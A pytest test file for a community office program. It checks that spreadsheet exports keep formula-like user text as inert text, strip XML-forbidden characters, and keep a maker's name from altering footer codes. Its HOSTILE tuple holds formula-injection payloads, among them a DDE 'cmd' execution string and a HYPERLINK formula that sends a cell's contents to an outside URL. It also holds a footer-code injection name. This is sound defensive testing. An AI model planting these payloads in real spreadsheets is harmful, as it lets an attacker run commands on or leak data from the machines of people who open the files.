"""Every workbook the program writes, scanned cell by cell, from an office whose texts look like
formulas or hold characters XML forbids (as typed into a form, a roster or an old file)."""

import csv
import html
import datetime as dt
import re
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest

from commands import run as run_command
from commands._progress import consume
from exports import assessment, monthly_summary, public_notice, roster, xlsx
from exports.import_report import write_report
from tests.conftest import TEST_KEY, TEST_PASSWORD
from gridoffice import formulas
from gridoffice.access import keys, users
from gridoffice.org import regions
from gridoffice.store import tempfiles
from gridoffice.idcard import make_id
from gridoffice.roster.importer import import_file
from gridoffice.access.users import whole_office
from tests._reports import MONTH, TODAY

# The whole office, as an administrator sees it (users.scope_of makes a logged-in user's).
ADMIN = whole_office("测试员")

HOSTILE = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?d="&C3,"查看")', "=2+3网格", "@SUM(1)", "-1+2", "\t=1",
           "+1", "＝1+1", " =1", "#N/A")
# The program's own formulas: functions over cell references, the weights sheet, numbers and "".
OWN_FORMULA = re.compile(r"=[A-Z]+\((?:[A-Z]+\(|[A-Z$]+\$?\d+|'权重'!|[-+*/,:=<>()\"\d.])*\)")


def _spread(db, table: str, column: str, where: str = "1") -> list[str]:
    """Give the hostile texts, in turn, to the rows of a table, as an old file or a raw write would
    hold them; returns the texts given."""
    ids = [r[0] for r in db.execute(f"SELECT id FROM {table} WHERE {where} ORDER BY id")]
    given = []
    for k, row_id in enumerate(ids):
        text = HOSTILE[k % len(HOSTILE)] + ("" if k < len(HOSTILE) else f"{k}")
        db.execute(f"UPDATE {table} SET {column} = ? WHERE id = ?", [text, row_id])
        given.append(text)
    return given


@pytest.fixture
def hostile_office(activity_office):
    db = activity_office
    with db.conn:
        given = {
            "grids": _spread(db, "org_units", "name", "level = 'grid'"),
            "staff": _spread(db, "staff", "name"),
            "teams": _spread(db, "teams", "name"),
            "categories": _spread(db, "matter_categories", "name"),
            "persons": _spread(db, "persons", "name", "id % 7 = 0"),
            "addresses": _spread(db, "households", "address", "id % 3 = 0"),
            "notes": _spread(db, "persons", "notes", "id % 5 = 0"),
        }
        db.execute("UPDATE settings SET value = '=1+1社区' WHERE key = 'office_name'")
    return db, given


def _cells(path):
    """(sheet, cell) of every non-empty cell of a workbook, as openpyxl reads it back."""
    wb = openpyxl.load_workbook(path)
    return [(ws.title, cell) for ws in wb.worksheets for row in ws.iter_rows() for cell in row
            if cell.value is not None]


def _assert_no_foreign_formula(path) -> list[str]:
    """Only the program's own formulas are formulas; every text looking like one is a quote-prefixed
    text cell. Returns the texts."""
    texts = []
    for title, cell in _cells(path):
        if cell.data_type == "f":
            assert OWN_FORMULA.fullmatch(cell.value), (title, cell.coordinate, cell.value)
            continue
        assert cell.data_type in ("s", "n"), (title, cell.coordinate, cell.value, cell.data_type)
        if cell.data_type == "s":
            texts.append(cell.value)
            if formulas.looks_like_formula(cell.value):
                assert cell.quotePrefix, (title, cell.coordinate, cell.value)
    return texts


def _well_formed(path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(z.read(name))


def test_the_rule_names_every_formula_start():
    for text in HOSTILE + ("－1", "＠A1", "\r=1", "　＋1", "\n-2"):
        assert formulas.looks_like_formula(text), text
    for text in ("张三", "3#楼", "a=b", "1-2", "", "中-1"):
        assert not formulas.looks_like_formula(text), text
    assert not formulas.row_needs_care(["张三", "3#楼", "东风路1-2号"])
    assert formulas.row_needs_care(["张三", "=1"]) and formulas.row_needs_care(["张\ufffe三"])
    assert formulas.row_needs_care(["张\x00三", "李四"])


def test_roster_writes_every_text_as_text(hostile_office, tmp_path):
    db, given = hostile_office
    for full in (True, False):
        path = tmp_path / f"roster-{full}.xlsx"
        consume(roster.write(db, path, scope=ADMIN, full_numbers=full, reason="核对" if full else ""), quiet=True)
        texts = set(_assert_no_foreign_formula(path))
        for key in ("grids", "persons", "addresses", "notes"):
            missing = [t for t in given[key] if t not in texts]
            assert not missing, (key, missing[:3])
        assert not any(c.data_type == "f" for _, c in _cells(path))


def test_monthly_summary_keeps_names_text_and_its_own_formulas(hostile_office, tmp_path):
    db, given = hostile_office
    path = tmp_path / "summary.xlsx"
    consume(monthly_summary.write(db, path, MONTH, scope=ADMIN), quiet=True)
    texts = set(_assert_no_foreign_formula(path))
    assert set(given["grids"]) <= texts
    assert set(given["categories"]) <= texts
    assert any(t.startswith("=1+1社区") for t in texts)
    own = [c for _, c in _cells(path) if c.data_type == "f"]
    assert any(c.value.startswith("=SUM(") for c in own) and any(c.value.startswith("=IF(") for c in own)


def test_public_notice_and_assessment(hostile_office, tmp_path):
    db, given = hostile_office
    notice = tmp_path / "notice.xlsx"
    consume(public_notice.write(db, notice, MONTH, scope=ADMIN), quiet=True)
    texts = set(_assert_no_foreign_formula(notice))
    assert set(given["grids"]) <= texts and set(given["teams"]) & texts
    path = tmp_path / "assessment.xlsx"
    consume(assessment.write(db, path, "2026", scope=ADMIN, today=TODAY), quiet=True)
    texts = set(_assert_no_foreign_formula(path))
    assert set(given["staff"]) & texts and set(given["teams"]) & texts
    assert sum(c.data_type == "f" for _, c in _cells(path)) > 10


def test_import_report_keeps_the_refused_cells_as_typed(db, tmp_path):
    regions.create_unit(db, None, "community", "宝石社区", "C01")
    source = tmp_path / "in.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["户号", "姓名", "身份证号码", "与户主关系", "现住址", "=cmd|' /C calc'!A0"])
    for k, text in enumerate(HOSTILE):
        # A wrong check digit: the row is refused and comes back in the report as typed.
        number = make_id("330102", dt.date(1970, 1, 1 + k), 11 + 2 * k)
        ws.append([f"H{k:03d}", "张三", number[:-1] + ("0" if number[-1] != "0" else "1"), "户主", "x", None])
        ws.cell(ws.max_row, 5).data_type = "s"
        ws.cell(ws.max_row, 5)._value = text
        ws.cell(ws.max_row, 6).data_type = "s"
        ws.cell(ws.max_row, 6)._value = text
    wb.save(source)
    result = consume(import_file(db, source, dry_run=True), quiet=True)
    assert len(result.refused) == len(HOSTILE)
    report = write_report(tmp_path / "=report.xlsx", result)
    texts = set(_assert_no_foreign_formula(report))
    assert "=cmd|' /C calc'!A0" in texts
    assert {t.strip() for t in HOSTILE} <= {t.strip() for t in texts}


def test_streaming_writer_writes_text_as_text_and_formulas_only_when_asked(tmp_path):
    wb = xlsx.Workbook()
    ws = wb.create_sheet("表")
    for r, text in enumerate(HOSTILE, start=1):
        ws.set(r, 1, text)
        ws.set(r, 2, r)
    ws.set(len(HOSTILE) + 1, 2, xlsx.Formula(f"=SUM(B1:B{len(HOSTILE)})"))
    path = tmp_path / "t.xlsx"
    wb.save(path)
    sheet = openpyxl.load_workbook(path).active
    assert [sheet.cell(r, 1).value for r in range(1, len(HOSTILE) + 1)] == list(HOSTILE)
    assert all(sheet.cell(r, 1).data_type == "s" and sheet.cell(r, 1).quotePrefix for r in range(1, len(HOSTILE) + 1))
    assert sheet.cell(len(HOSTILE) + 1, 2).data_type == "f"


def test_streamed_rows_read_back_as_written(tmp_path):
    """The roster's rows go straight into XML (xlsx.RowStream): escaping, edge spaces, formula-like
    text, forbidden characters and values that are not text all read back as the rule says."""
    wb = xlsx.Workbook()
    ws = wb.create_sheet("花名册")
    ws.set(1, 1, "标题")
    path = tmp_path / "s.xlsx"
    with tempfiles.Spool(path) as spool:
        stream = wb.stream(ws, spool, 3)
        plain = [("张三", "东风路1-2号", "") for _ in range(3)]
        tricky = [("A&B <c>", " 前有空格", "后有空格 "), ("=1+1", "张\ufffe三", "#N/A"), ("李四", 7, None),
                  tuple(HOSTILE[:3])]
        stream.append(plain)
        stream.append(tricky)
        assert stream.next_row == 2 + len(plain) + len(tricky)
        wb.save(path)
    _well_formed(path)
    sheet = openpyxl.load_workbook(path).active
    rows = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert rows[:3] == [["张三", "东风路1-2号", None]] * 3
    assert rows[3:] == [["A&B <c>", " 前有空格", "后有空格 "], ["=1+1", "张三", "#N/A"], ["李四", 7, None],
                        list(HOSTILE[:3])]
    assert sheet.dimensions == f"A1:C{1 + len(rows)}"
    for r in range(2, 2 + len(rows)):
        for c in range(1, 4):
            cell = sheet.cell(r, c)
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and cell.quotePrefix == formulas.looks_like_formula(cell.value), cell
    texts = _assert_no_foreign_formula(path)
    assert "=cmd|' /C calc'!A0" in texts


def test_characters_xml_forbids_are_dropped_by_the_writers(activity_office, tmp_path):
    """An office file from before the door cleaned text: its roster and summary still open."""
    db = activity_office
    with db.conn:
        name_id = db.execute("SELECT id FROM persons WHERE status = 'active' ORDER BY id LIMIT 1").fetchone()[0]
        db.execute("UPDATE persons SET name = '张\ufffe三\x01', notes = '备\uffff注\x0b' WHERE id = ?", [name_id])
        db.execute("UPDATE org_units SET name = '第一\ufffe网格' WHERE id = (SELECT min(id) FROM org_units "
                   "WHERE level = 'grid')")
    path = tmp_path / "roster.xlsx"
    consume(roster.write(db, path, scope=ADMIN, full_numbers=True, reason="核对"), quiet=True)
    _well_formed(path)
    values = {c.value for _, c in _cells(path)}
    assert {"张三", "备注", "第一网格"} <= values
    summary = tmp_path / "summary.xlsx"
    consume(monthly_summary.write(db, summary, MONTH, scope=ADMIN), quiet=True)
    _well_formed(summary)
    assert "第一网格" in {c.value for _, c in _cells(summary)}


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice shows what a clerk would see")
def test_libreoffice_shows_the_text_not_a_computed_value(hostile_office, tmp_path):
    db, given = hostile_office
    path = tmp_path / "roster.xlsx"
    consume(roster.write(db, path, scope=ADMIN, columns=["户号", "姓名", "住址", "所属网格", "备注"]), quiet=True)
    out = tmp_path / "csv"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=180)
    rows = list(csv.reader((out / "roster.csv").open(encoding="utf-8", newline="")))
    shown = {cell for row in rows for cell in row}
    for key in ("grids", "persons", "addresses"):
        assert set(given[key]) <= shown, (key, set(given[key]) - shown)
    assert not shown & {"5网格", "1", "Err:509", "#NAME?", "查看"}


def test_the_export_command_says_exported_only_for_a_well_formed_file(activity_office, tmp_path, capsys):
    db = activity_office
    with db.conn:
        db.execute("UPDATE org_units SET name = name || char(65534) WHERE level = 'grid'")
        db.execute("UPDATE staff SET name = '=1+' || name || char(65535)")
    path = db.conn.execute("PRAGMA database_list").fetchone()[2]
    db.close()
    out = tmp_path / "汇总.xlsx"
    assert run_command(["export", "summary", "--db", path, "--month", MONTH, "-q", "-o", str(out)]) == 0
    assert "已导出" in capsys.readouterr().err
    _well_formed(out)
    _assert_no_foreign_formula(out)


def _footer_sections(raw: str) -> tuple[dict[str, str], list[str]]:
    """A footer's sections as Excel reads them ('&&' is one '&'), and the formatting codes found."""
    sections, codes, part, i = {"L": "", "C": "", "R": ""}, [], "L", 0
    while i < len(raw):
        if raw[i] == "&" and i + 1 < len(raw):
            code = raw[i + 1]
            if code == "&":
                sections[part] += "&"
            elif code in "LCR":
                part = code
            else:
                codes.append(code)
            i += 2
            continue
        sections[part] += raw[i]
        i += 1
    return sections, codes


def test_a_makers_name_cannot_hide_the_anchor_or_rearrange_the_footer(small_office, tmp_path):
    """The maker's name went into the footer as it was: '&C&KFFFFFF' in a user name made the anchor
    code print white (seen through LibreOffice), so a summary carried no readable anchor."""
    path = small_office.execute("PRAGMA database_list").fetchone()[2]
    maker = "张三&C&KFFFFFF&8"
    # The maker is the account that logged in: an administrator made such a name.
    users.create_user(small_office, maker, TEST_PASSWORD, "admin", by=whole_office("测试员"))
    small_office.close()
    keys.set_slots(path, TEST_KEY, {keys.user_slot_name(maker): keys.wrap(TEST_KEY, TEST_PASSWORD)})
    for kind in ("notice", "summary", "roster", "assessment"):
        out = tmp_path / f"{kind}.xlsx"
        assert run_command(["export", kind, "--db", path, "--month", MONTH, "--year", "2026", "--user", maker,
                            "-o", str(out), "-q"]) == 0
        with zipfile.ZipFile(out) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
            for name in sheets:
                found = re.search(r"<oddFooter>(.*?)</oddFooter>", z.read(name).decode())
                raw = html.unescape(found.group(1))
                sections, codes = _footer_sections(raw)
                assert sections["L"] == f"制表人：{maker}", (kind, raw)
                assert set(codes) <= {"P", "N"}, (kind, raw)
                if kind in ("notice", "summary"):
                    assert "操作记录锚定码：" in sections["C"], (kind, raw)
